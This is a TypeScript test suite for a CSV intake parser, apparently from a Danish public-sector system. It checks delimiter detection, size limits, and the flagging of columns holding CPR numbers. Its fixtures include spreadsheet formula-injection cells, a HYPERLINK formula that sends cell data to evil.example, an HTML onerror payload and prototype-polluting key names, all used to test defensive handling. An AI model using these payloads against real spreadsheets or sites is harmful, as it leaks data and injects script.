import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { findCprColumns } from '../../src/intake/cpr-column.ts';
import type { CsvTable, ReadCsv } from '../../src/intake/read-csv.ts';
import { readWhole } from '../support/csv.ts';
import { csvCases, read } from './hostile/csv.ts';

const names = ['sagsbehandler', 'borger', 'tro', 'skift', 'job'];
const threeRows = [
  { line: 1, cells: names },
  { line: 2, cells: ['Ærø', 'B-1', '1,3', '0', 'nej'] },
  { line: 3, cells: ['Øster Å', 'B-2', '2,5', '1', 'ja'] },
];

function table(result: ReadCsv): CsvTable {
  if (result.kind !== 'table') throw new Error(`refused: ${JSON.stringify(result.refusal)}`);
  return result;
}
const cells = (result: ReadCsv): (readonly string[])[] =>
  table(result)
    .rows.slice(1)
    .map((row) => row.cells);

describe('a file from a spreadsheet', () => {
  it.each([
    [csvCases.bom, ';'],
    [csvCases.danishExcel, ';'],
    [csvCases.unicodeText, '\t'],
    [csvCases.tab, '\t'],
    [csvCases.oldMac, ';'],
    [csvCases.ctrlZ, ';'],
  ] as const)('$id: is read', (file, delimiter) => {
    expect(read(file)).toEqual({ kind: 'table', rows: threeRows, delimiter, isSure: true });
  });

  it('C-006: keeps € and the long dash', () => expect(cells(read(csvCases.euro))).toEqual([['A – B', 'B-1', '1,3', '0', '1.250 €']]));

  it('C-007: is read with commas', () => {
    expect(table(read(csvCases.comma))).toMatchObject({
      delimiter: ',',
      rows: [{ cells: names }, { cells: ['A', 'B-1', '1.3', '0', 'nej'] }],
    });
  });

  it('C-009: is one column where nothing stands between cells', () => {
    expect(table(read(csvCases.oneColumn)).delimiter).toBeNull();
    expect(cells(read(csvCases.oneColumn))).toEqual([['1,3'], ['2,5']]);
  });

  it('C-012: reads bars once somebody has named them', () => {
    expect(table(read(csvCases.bar)).delimiter).toBeNull();
    expect(readWhole(csvCases.bar.text, '|')).toMatchObject({ rows: threeRows, delimiter: '|', isSure: true });
  });

  it('C-017: is refused where a quote is never closed, with the row in which it begins', () => {
    expect(read(csvCases.openQuote)).toEqual({ kind: 'refused', refusal: { kind: 'unclosedQuote', line: 2, column: 5 } });
  });

  it('C-021: leaves out blank rows, and the others keep their numbers', () => {
    expect(table(read(csvCases.blank)).rows.map(({ line }) => line)).toEqual([1, 3, 6]);
  });

  it('C-022: is refused where there is nothing', () => {
    expect(readWhole('\n;;\n')).toEqual({ kind: 'refused', refusal: { kind: 'empty' } });
    expect(readWhole('')).toEqual({ kind: 'refused', refusal: { kind: 'empty' } });
  });

  it.each([
    [csvCases.total, 4],
    [csvCases.sameId, 3],
    [csvCases.tooMany, 3],
  ] as const)('$id: keeps every row, since what they mean is for the import to tell', (file, rows) => {
    expect(table(read(file)).rows).toHaveLength(rows);
  });

  it('C-029: names of built-in fields are only text', () => {
    expect(table(read(csvCases.builtIn)).rows.map((row) => row.cells)).toEqual([
      ['borger', '__proto__', 'constructor', 'toString'],
      ['B-1', 'a', 'b', 'c'],
    ]);
    expect(Object.keys(Object.prototype)).toEqual([]);
  });

  it.each([
    [csvCases.cpr, 'sure'],
    [csvCases.nineDigits, 'nineDigits'],
    [csvCases.power, 'power'],
  ] as const)('$id: has a column that must not be kept', (file, reason) => {
    expect(findCprColumns(cells(read(file)))).toMatchObject([{ column: 1, reason }]);
  });

  it.each([
    [
      csvCases.formulas,
      [
        ['=1+1', '+4520304050'],
        ['@B-3', '\t=1+1'],
      ],
    ],
    [csvCases.link, [['B-1', '=HYPERLINK("https://evil.example/?x="&A1;"klik")']]],
    [csvCases.html, [['<img src=x onerror=1>', '1']]],
  ] as const)('$id: is read as the text it is', (file, expected) => expect(cells(read(file))).toEqual(expected));

  it('takes the line that names the delimiter off, and counts rows as Excel does', () => {
    expect(table(readWhole('sep=,\r\na,b;c\r\n1,2\r\n'))).toMatchObject({
      delimiter: ',',
      rows: [
        { line: 1, cells: ['a', 'b;c'] },
        { line: 2, cells: ['1', '2'] },
      ],
    });
  });

  it('reads mixed ends of lines, and counts a cell with several lines as one row', () => {
    expect(table(readWhole('a;b\r\n"1\r\nx";2\n3;4\r5;6')).rows.slice(1)).toEqual([
      { line: 2, cells: ['1\nx', '2'] },
      { line: 3, cells: ['3', '4'] },
      { line: 4, cells: ['5', '6'] },
    ]);
  });

  it('says where another delimiter would do as well', () => {
    expect(table(readWhole('a;b,c\n1;2,3\n'))).toMatchObject({ delimiter: ';', isSure: false });
  });
});

describe('a file that is too large', () => {
  const row = 'A;B;1,3\r\n';
  it('is read up to 50,000 rows and refused from the next', () => {
    expect(table(readWhole(`a;b;c\r\n${row.repeat(50_000)}`)).rows).toHaveLength(50_001);
    expect(readWhole(`a;b;c\r\n${row.repeat(50_001)}`)).toEqual({ kind: 'refused', refusal: { kind: 'tooManyRows', limit: 50_000 } });
  });

  it.each([
    ['L-006', 'one very long line', `a;b;c ${'a'.repeat(10_000_000)}`, 'lineTooLong'],
    ['L-007', 'quotes without end', `"${'a""\n'.repeat(2_000_000)}`, 'unclosedQuote'],
    ['L-007', 'more than 10 MB', `"${'a""'.repeat(5_000_000)}`, 'tooLarge'],
    ['L-007', 'ten million columns', ';'.repeat(10_000_000), 'lineTooLong'],
    ['L-007', 'ten million rows', '\n'.repeat(10_000_000), 'tooManyRows'],
  ])('%s: %s is refused', (_id, _what, text, kind) => expect(readWhole(text)).toMatchObject({ kind: 'refused', refusal: { kind } }));
});

describe('whatever the text', () => {
  it('rows come in the order of the file, none of them blank, and the answer is the same twice', () => {
    const anyCsv = fc.oneof(
      fc.string({ unit: fc.constantFrom('a', '1', '"', ';', ',', '\t', '\n', '\r', ' ', 'sep='), maxLength: 30 }),
      fc.string({ unit: 'binary' }),
    );
    fc.assert(
      fc.property(anyCsv, (text) => {
        const result = readWhole(text);
        expect(readWhole(text)).toEqual(result);
        if (result.kind !== 'table') return;
        expect(result.rows.every((row) => row.cells.some((cell) => cell.trim() !== ''))).toBe(true);
        const lines = result.rows.map(({ line }) => line);
        expect(lines).toEqual([...new Set(lines)].sort((one, other) => one - other));
      }),
      { numRuns: 2000 },
    );
  });
});
